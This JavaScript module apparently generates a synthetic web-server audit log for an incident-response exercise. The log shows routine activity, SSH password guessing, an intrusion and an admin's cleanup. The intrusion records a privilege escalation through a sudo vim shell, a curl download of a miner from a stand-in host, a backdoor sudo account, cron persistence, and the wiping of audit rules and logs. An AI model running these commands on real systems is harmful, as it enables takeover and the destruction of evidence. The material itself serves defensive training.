/** The host's side: two days on a web server, a guessed password, a planted program, and the clearing up. */
import { createLog } from "./records.mjs";

const DAY1 = Date.UTC(2026, 2, 17) / 1000;
const DAY2 = DAY1 + 86_400;
const at = (day, clock) => {
  const [h, m, s = "0"] = clock.split(":");
  return day + Number(h) * 3600 + Number(m) * 60 + Number(s);
};
const UNSET = 4294967295;
const ATTACKER = "203.0.113.57";
const DROP = "198.51.100.23";

export function auditLog() {
  const log = createLog(4100);
  routine(log);
  officeHours(log);
  guessing(log);
  intrusion(log);
  response(log);
  const events = log.lines();
  return tear(interleave(events));
}

function routine(log) {
  for (const day of [DAY1, DAY2]) {
    log.event(at(day, "00:00:04"), [
      [
        "DAEMON_ROTATE",
        'op=rotate-logs auid=0 uid=0 ses=1 pid=741 subj=unconfined res=success\x1dAUID="root" UID="root"',
      ],
    ]);
    for (let minute = 0; minute < 24 * 60; minute += 30) {
      const t = day + minute * 60 + 1;
      const cron = { pid: 20_000 + minute, auid: "unset", ses: UNSET };
      const job = { pid: cron.pid, auid: "root", ses: 100 + minute / 30 };
      log.pam(t, "USER_ACCT", cron, "accounting", "root", "", "success", "/usr/sbin/cron");
      log.event(t, [
        [
          "LOGIN",
          `pid=${job.pid} uid=0 subj=unconfined old-auid=${UNSET} auid=0 tty=(none) old-ses=${UNSET} ses=${job.ses} res=1\x1dUID="root" OLD-AUID="unset" AUID="root"`,
        ],
      ]);
      log.pam(t, "USER_START", job, "session_open", "root", "", "success", "/usr/sbin/cron");
      log.exec(t, { ...job, tty: "(none)" }, ["/usr/local/bin/backup-check", "--quiet"], { key: "cron" });
      log.pam(t + 2, "USER_END", job, "session_close", "root", "", "success", "/usr/sbin/cron");
    }
    for (const [clock, unit] of [
      ["04:12", "apt-daily"],
      ["06:25", "logrotate"],
      ["06:26", "nginx"],
      ["18:02", "certbot"],
    ]) {
      for (const type of ["SERVICE_START", "SERVICE_STOP"]) {
        const who = { pid: 1, auid: "unset", ses: UNSET };
        log.user(
          at(day, clock),
          type,
          who,
          `unit=${unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success`,
        );
      }
    }
  }
}

const WORK = {
  alice: [
    ["ls", "-la"],
    ["vim", "/etc/nginx/nginx.conf"],
    ["systemctl", "status", "nginx"],
    ["journalctl", "-u", "nginx", "-n", "50"],
    ["df", "-h"],
  ],
  carol: [
    ["git", "pull"],
    ["npm", "run", "build"],
    ["ls", "/srv/www"],
    ["tail", "-n", "100", "/var/log/nginx/access.log"],
    ["grep", "-r", "TODO fix", "/srv/www"],
  ],
  bob: [["psql", "-c", "select count(*) from orders"], ["ls"], ["less", "/var/log/syslog"], ["top", "-b", "-n", "1"]],
};
const DESKS = { alice: "192.0.2.21", bob: "192.0.2.34", carol: "192.0.2.47" };

function officeHours(log) {
  const { random } = log;
  let session = 500;
  for (const day of [DAY1, DAY2]) {
    for (const name of ["alice", "bob", "carol"]) {
      for (const clock of ["08:41", "13:05"]) {
        const start = at(day, clock) + random.below(1500);
        const who = { pid: 30_000 + session * 10, auid: name, uid: name, ses: session++ };
        if (random.next() < 0.3)
          log.pam(
            start - 9,
            "USER_AUTH",
            { ...who, auid: "unset", ses: UNSET },
            "authentication",
            name,
            DESKS[name],
            "failed",
          );
        signIn(log, start, who, name, DESKS[name]);
        let t = start + 20;
        for (let i = 0; i < 12; i++) {
          t += 40 + random.below(700);
          log.exec(t, who, random.pick(WORK[name]), { cwd: `/user/${name}` });
        }
        if (name === "alice") {
          log.sudo(t + 30, who, "systemctl reload nginx", "/user/alice");
          log.exec(t + 31, { ...who, uid: "root" }, ["systemctl", "reload", "nginx"]);
        }
        log.pam(t + 240, "USER_END", who, "session_close", name, DESKS[name], "success");
      }
    }
  }
  const carol = { pid: 33_011, auid: "carol", uid: "carol", ses: 503 };
  log.syscall(at(DAY1, "14:20:12"), "openat", carol, {
    exe: "/usr/bin/cat",
    key: "shadow",
    exit: -13,
    success: false,
    cwd: "/user/carol",
    paths: [["/etc/shadow", "NORMAL", "root", "0100640"]],
  });
  log.sudo(at(DAY1, "14:20:40"), carol, "cat /etc/shadow", "/user/carol", "failed");
}

function signIn(log, t, who, name, from) {
  const before = { ...who, auid: "unset", ses: UNSET };
  log.pam(t, "USER_AUTH", before, "authentication", name, from, "success");
  log.pam(t, "CRED_ACQ", before, "setcred", name, from, "success");
  log.event(t, [
    [
      "LOGIN",
      `pid=${who.pid} uid=0 subj=unconfined old-auid=${UNSET} auid=${{ alice: 1001, bob: 1002, carol: 1003, deploy: 1004 }[name]} tty=(none) old-ses=${UNSET} ses=${who.ses} res=1\x1dUID="root" OLD-AUID="unset" AUID="${name}"`,
    ],
  ]);
  log.pam(t + 1, "USER_START", who, "session_open", name, from, "success");
  log.user(
    t + 1,
    "USER_LOGIN",
    who,
    `op=login id=${{ alice: 1001, bob: 1002, carol: 1003, deploy: 1004 }[name]} exe="/usr/sbin/sshd" hostname=${from} addr=${from} terminal=/dev/pts/0 res=success`,
    `UID="root" AUID="${name}" ID="${name}"`,
  );
}

/** Five hours of guessing from one address, in waves. */
function guessing(log) {
  const { random } = log;
  const names = ["root", "admin", "deploy", "test", "oracle", "git", "ubuntu", "postgres"];
  for (const [from, to, step] of [
    ["21:58", "23:40", 47],
    ["00:31", "01:12", 19],
    ["02:05", "02:44", 23],
  ]) {
    const day = from.startsWith("2") ? DAY1 : DAY2;
    for (let t = at(day, from); t < at(day, to); t += step + random.below(step)) {
      const who = { pid: 50_000 + random.below(9000), auid: "unset", ses: UNSET };
      const name = random.next() < 0.35 ? "deploy" : random.pick(names);
      log.pam(t, "USER_AUTH", who, "authentication", name, ATTACKER, "failed");
      log.user(
        t,
        "USER_LOGIN",
        who,
        `op=login acct="${name}" exe="/usr/sbin/sshd" hostname=? addr=${ATTACKER} terminal=ssh res=failed`,
      );
    }
  }
}

function intrusion(log) {
  const who = { pid: 61_204, auid: "deploy", uid: "deploy", ses: 611 };
  const root = { ...who, uid: "root", pid: 61_377 };
  const night = (clock) => at(DAY2, clock);
  signIn(log, night("02:47:31"), who, "deploy", ATTACKER);
  const looking = [
    ["id"],
    ["uname", "-a"],
    ["cat", "/etc/passwd"],
    ["ss", "-tlnp"],
    ["find", "/", "-perm", "-4000", "-type", "f"],
    ["ls", "-la", "/user"],
  ];
  looking.forEach((args, i) => log.exec(night("02:48:10") + i * 37, who, args, { cwd: "/user/deploy" }));
  log.syscall(night("02:52:03"), "openat", who, {
    exe: "/usr/bin/cat",
    key: "shadow",
    exit: -13,
    success: false,
    cwd: "/user/deploy",
    paths: [["/etc/shadow", "NORMAL", "root", "0100640"]],
  });
  log.sudo(night("02:52:41"), who, "vim /srv/www/releases/notes.txt", "/user/deploy");
  log.exec(night("02:52:41"), { ...who, uid: "root" }, ["vim", "/srv/www/releases/notes.txt"], { cwd: "/user/deploy" });
  log.exec(night("02:52:58"), root, ["/bin/sh", "-c", "exec /bin/bash -i"], { cwd: "/user/deploy" });
  log.syscall(night("02:53:20"), "openat", root, {
    exe: "/usr/bin/cat",
    key: "shadow",
    exit: 3,
    paths: [["/etc/shadow", "NORMAL", "root", "0100640"]],
  });
  log.exec(night("02:55:02"), root, ["curl", "-s", "-o", "/tmp/.x/kworkerd", `http://${DROP}:8080/k`]);
  log.connect(night("02:55:02"), root, "/usr/bin/curl", DROP, 8080);
  log.syscall(night("02:55:04"), "openat", root, {
    exe: "/usr/bin/curl",
    key: "tmp-exec",
    exit: 5,
    paths: [
      ["/tmp/.x/", "PARENT", "root", "040755"],
      ["/tmp/.x/kworkerd", "CREATE"],
    ],
  });
  log.syscall(night("02:55:30"), "fchmodat", root, {
    exe: "/usr/bin/chmod",
    key: "perm",
    paths: [["/tmp/.x/kworkerd", "NORMAL", "root", "0100755"]],
  });
  log.exec(night("02:55:41"), root, ["/tmp/.x/kworkerd", "--pool", `${DROP}:4444`, "--name", "web 01"], {
    key: "tmp-exec",
  });
  for (let i = 0; i < 90; i++)
    log.connect(
      night("02:55:44") + i * 180 + log.random.below(30),
      { ...root, tty: "(none)" },
      "/tmp/.x/kworkerd",
      DROP,
      4444,
    );
  log.exec(night("02:58:12"), root, ["useradd", "-m", "-G", "sudo", "svc-backup"]);
  log.user(
    night("02:58:12"),
    "ADD_USER",
    root,
    'op=add-user acct="svc-backup" exe="/usr/sbin/useradd" hostname=web01 addr=? terminal=pts/0 res=success',
    'UID="root" AUID="deploy"',
  );
  log.user(
    night("02:58:12"),
    "ADD_GROUP",
    root,
    'op=add-group acct="svc-backup" exe="/usr/sbin/useradd" hostname=web01 addr=? terminal=pts/0 res=success',
    'UID="root" AUID="deploy"',
  );
  log.user(
    night("02:58:33"),
    "USER_CHAUTHTOK",
    root,
    'op=PAM:chauthtok grantors=pam_unix acct="svc-backup" exe="/usr/bin/passwd" hostname=? addr=? terminal=pts/0 res=success',
    'UID="root" AUID="deploy"',
  );
  log.syscall(night("02:59:40"), "openat", root, {
    exe: "/usr/bin/crontab",
    key: "cron",
    exit: 4,
    paths: [
      ["/var/spool/cron/crontabs/", "PARENT", "root", "041730"],
      ["/var/spool/cron/crontabs/root", "CREATE"],
    ],
  });
  log.exec(night("03:01:15"), root, ["auditctl", "-D"]);
  log.event(night("03:01:15"), [
    ["CONFIG_CHANGE", 'auid=1004 ses=611 subj=unconfined op=remove_rule key="shadow" list=4 res=1\x1dAUID="deploy"'],
  ]);
  log.syscall(night("03:02:07"), "unlink", root, {
    exe: "/usr/bin/rm",
    key: "delete",
    paths: [
      ["/var/log/", "PARENT", "root", "040755"],
      ["/var/log/auth.log", "DELETE"],
    ],
  });
  log.syscall(night("03:02:30"), "openat", root, {
    exe: "/usr/bin/tee",
    key: "delete",
    exit: 3,
    paths: [["/root/.bash_history", "NORMAL"]],
  });
  log.pam(night("03:04:55"), "USER_END", who, "session_close", "deploy", ATTACKER, "success");
  const back = { pid: 64_410, auid: "unset", ses: UNSET };
  log.pam(night("05:17:09"), "USER_AUTH", back, "authentication", "svc-backup", ATTACKER, "success");
}

function response(log) {
  const alice = { pid: 71_200, auid: "alice", uid: "alice", ses: 702 };
  const root = { ...alice, uid: "root", pid: 71_260 };
  const morning = (clock) => at(DAY2, clock);
  signIn(log, morning("07:34:02"), alice, "alice", DESKS.alice);
  [
    ["top", "-b", "-n", "1"],
    ["ps", "auxf"],
    ["ss", "-tnp"],
  ].forEach((args, i) => log.exec(morning("07:35:11") + i * 25, alice, args, { cwd: "/user/alice" }));
  log.sudo(morning("07:37:20"), alice, "ls -la /proc/61741/exe", "/user/alice");
  log.exec(morning("07:37:20"), root, ["ls", "-la", "/proc/61741/exe"]);
  log.exec(morning("07:38:05"), root, ["sha256sum", "/tmp/.x/kworkerd"]);
  log.syscall(morning("07:41:40"), "kill", root, { exe: "/usr/bin/kill", key: "signals" });
  log.exec(morning("07:44:18"), root, ["usermod", "-L", "svc-backup"]);
  log.user(
    morning("07:44:18"),
    "ACCT_LOCK",
    root,
    'op=locked-password acct="svc-backup" exe="/usr/sbin/usermod" hostname=web01 addr=? terminal=pts/0 res=success',
    'UID="root" AUID="alice"',
  );
  log.exec(morning("07:46:00"), root, ["passwd", "-l", "deploy"]);
  log.exec(morning("07:52:31"), root, ["auditctl", "-R", "/etc/audit/audit.rules"]);
  log.event(morning("07:52:31"), [
    ["CONFIG_CHANGE", 'auid=1001 ses=702 subj=unconfined op=add_rule key="shadow" list=4 res=1\x1dAUID="alice"'],
  ]);
}

/** Records of events that happen at once lie among each other in a real log. */
function interleave(events) {
  const lines = [];
  for (let i = 0; i < events.length; i++) {
    const here = events[i];
    const next = events[i + 1];
    if (i % 29 === 0 && next !== undefined && here.length > 2 && next.length > 1) {
      lines.push(here[0], next[0], ...here.slice(1), ...next.slice(1));
      i++;
    } else lines.push(...here);
  }
  return lines;
}

/** What a full disk and a copy cut short leave behind: four lines that are no record. */
function tear(lines) {
  const torn = [...lines];
  const third = Math.floor(torn.length / 3);
  torn.splice(third, 0, "node=web01.example.com type=SYSCALL msg=audit(17737");
  torn.splice(third * 2, 0, "type=PA", '0000 nametype=NORMAL cap_fp=0 cap_fi=0"');
  return `${torn.join("\n")}\nnode=web01.example.com type=USER_AU`;
}
